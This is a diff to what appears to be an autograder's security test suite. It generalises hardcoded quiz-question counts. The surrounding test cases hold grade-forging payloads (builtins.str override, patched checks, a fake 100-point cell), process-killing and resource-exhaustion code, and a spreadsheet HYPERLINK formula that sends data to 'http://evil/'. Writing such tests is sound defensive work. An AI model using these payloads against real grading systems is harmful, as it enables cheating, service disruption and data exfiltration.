@@ -25,7 +25,7 @@ from autograder.config import CourseError
 from autograder.example_submissions import solved_copy
 from autograder.grade import OutLock, grade
 from autograder.nbgrader_api import Execution
-from autograder.quizbank import LETTERS, load_bank
+from autograder.quizbank import COURSE_QUIZ, LETTERS, load_quizzes
 from autograder.reference import instructor_references
 from autograder.sandbox import FIRST_SANDBOX_UID, bwrap_path, process_slot
 
@@ -61,7 +61,9 @@ class Class:
         self.course = course
         self.folder = root / "submitted"
         self.out = root / "out"
-        self.questions = load_bank(course.quiz_bank, course.shuffle_seed)
+        self.questions = load_quizzes(course.quiz_bank, course.shuffle_seed)[COURSE_QUIZ].questions
+        self.all_right = len(self.questions)  # the course quiz's score when every answer is right
+        self.last_answer = self.questions[-1].answer_id
         self.quiz_release = nbformat.read(course.quizzes_dir / "quiz.ipynb", as_version=4)
         self.lesson_release = nbformat.read(course.lessons_dir / f"{LESSON}.ipynb", as_version=4)
         self.lesson_solved = solved_copy(self.lesson_release, nbformat.read(course.solutions_dir / f"{LESSON}.ipynb",
@@ -81,8 +83,9 @@ class Class:
     def wrong(self, q):
         return next(letter for letter in LETTERS if letter != q.answer)
 
-    def quiz(self, right: int = 8):
-        """A quiz answering the first `right` questions correctly and the rest wrong."""
+    def quiz(self, right: int | None = None):
+        """A quiz answering the first `right` questions correctly (default: all) and the rest wrong."""
+        right = self.all_right if right is None else right
         nb = copy.deepcopy(self.quiz_release)
         for q in self.questions:
             _cell(nb, q.answer_id).source = f'{q.variable} = "{q.answer if q.number <= right else self.wrong(q)}"'
@@ -120,10 +123,10 @@ def _attacks(c: Class, outside: Path) -> None:
     victim_copy = out / "course" / "submitted" / "zz_victim" / "quiz" / "quiz.ipynb"
     wrong_quiz = json.dumps(c.quiz(right=0))
     # --- honest classmates -------------------------------------------------------------------------
-    c.add("hon_all", "quiz", c.quiz(8), 8)
+    c.add("hon_all", "quiz", c.quiz(), c.all_right)
     c.add("hon_five", "quiz", c.quiz(5), 5)
-    c.add("zz_victim", "quiz", c.quiz(8), 8)
-    c.add("zy_victim", "quiz", c.quiz(8), 8)
+    c.add("zz_victim", "quiz", c.quiz(), c.all_right)
+    c.add("zy_victim", "quiz", c.quiz(), c.all_right)
     c.add("hon_lesson", LESSON, c.lesson(), c.lesson_max)
     c.add("hon_mistake", LESSON, c.lesson(wrong_mass=True), c.lesson_mistake)
     # --- 1. other students' grades and later runs ---------------------------------------------------
@@ -222,7 +225,7 @@ class _Any(str):
     def removesuffix(self, *a): return self
     def upper(self): return self
 builtins.str = _Any
-""", after="answer_8"), 5)
+""", after=c.last_answer), 5)
     c.add("f_patch_checks", LESSON, c.inject(c.lesson(wrong_mass=True), """
 import attnlab.checks as _c
 _c.check = _c.check_tensor = _c.passed = _c.record = lambda *a, **k: None
@@ -242,7 +245,7 @@ class _F(float):
         "def collect_patterns(model, tokens):\n    out, _ = _run_with_cache(model, tokens)\n    return out.attentions")
     c.add("f_alias", FIRST, alias, sum(c.first_points.values()) - c.first_points["test_collect_patterns"])
     duplicated = c.quiz(5)
-    fake = copy.deepcopy(_cell(duplicated, "q8"))
+    fake = copy.deepcopy(_cell(duplicated, c.questions[-1].test_id))
     fake.source = "pass  # a test cell of my own"
     bonus = copy.deepcopy(fake)
     bonus.metadata["nbgrader"] = dict(bonus.metadata["nbgrader"], grade_id="bonus", points=100)
@@ -284,7 +287,7 @@ Leak.__name__ = Leak.__qualname__ = '=HYPERLINK("http://evil/"&A1,"x")'
     c.expected["l_leak"] = (LESSON, c.lesson_max - c.lesson_points["test_flip_rate"], set())
     # --- 4. one submission ends the batch -----------------------------------------------------------
     c.add("b_nested", "quiz", b"[" * 5000, 0, {"not_json"})
-    raw = c.quiz(8)
+    raw = c.quiz()
     _cell(raw, "q1").cell_type = "raw"
     _cell(raw, "q2").cell_type = "markdown"
     _cell(raw, "answer_3").cell_type = "raw"
@@ -292,7 +295,7 @@ Leak.__name__ = Leak.__qualname__ = '=HYPERLINK("http://evil/"&A1,"x")'
         cell = _cell(raw, grade_id)
         cell.pop("outputs", None)
         cell.pop("execution_count", None)
-    c.add("b_raw_cells", "quiz", raw, 8, {"cells_restored"})
+    c.add("b_raw_cells", "quiz", raw, c.all_right, {"cells_restored"})
     c.add("b_kill", "quiz", c.inject(c.quiz(5), """
 import os, signal
 for pid in (os.getppid(), 1, -1):
@@ -300,7 +303,7 @@ for pid in (os.getppid(), 1, -1):
         os.kill(pid, signal.SIGKILL)
     except OSError as e:
         print("blocked", type(e).__name__)
-""", after="answer_8"), 5)
+""", after=c.last_answer), 5)
     # --- 5. resources -------------------------------------------------------------------------------
     c.add("r_memory", "quiz", c.inject(c.quiz(5), """
 try:
@@ -341,21 +344,21 @@ for i in range(3000):
     hang = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
     replay = c.quiz(5)
     for after, source in [("answer_1", "import time\ntime.sleep(8)"), ("answer_2", "import time\ntime.sleep(8)"),
-                          ("answer_4", hang), ("answer_6", hang), ("answer_8", hang)]:
+                          ("answer_4", hang), ("answer_6", hang), (c.last_answer, hang)]:
         c.inject(replay, source, after=after)
     c.add("r_replay", "quiz", replay, 5, {"time_budget"})
     # --- 6. ids and paths ---------------------------------------------------------------------------
     c.add("*", "quiz", c.quiz(0), 0, {"bad_id"})
     c.add("z?_victim", "quiz", c.quiz(0), 0, {"bad_id"})
     c.add("bad\nid", "quiz", c.quiz(0), 0, {"bad_id"})
-    c.add("@formula", "quiz", c.quiz(8), 8)
+    c.add("@formula", "quiz", c.quiz(), c.all_right)
     (c.folder / "s_linked_folder").symlink_to(c.folder / "hon_all")
     c.expected["s_linked_folder"] = ("-", 0, {"symlink"})
     link = c.folder / "s_linked_notebook" / "quiz"
     link.mkdir(parents=True)
     (link / "quiz.ipynb").symlink_to(c.folder / "hon_all" / "quiz" / "quiz.ipynb")
     c.expected["s_linked_notebook"] = ("quiz", 0, {"symlink"})
-    stamp = c.add("t_timestamp", "quiz", c.quiz(8), 8)
+    stamp = c.add("t_timestamp", "quiz", c.quiz(), c.all_right)
     (stamp.parent / "timestamp.txt").write_text("next tuesday, probably")
 
 
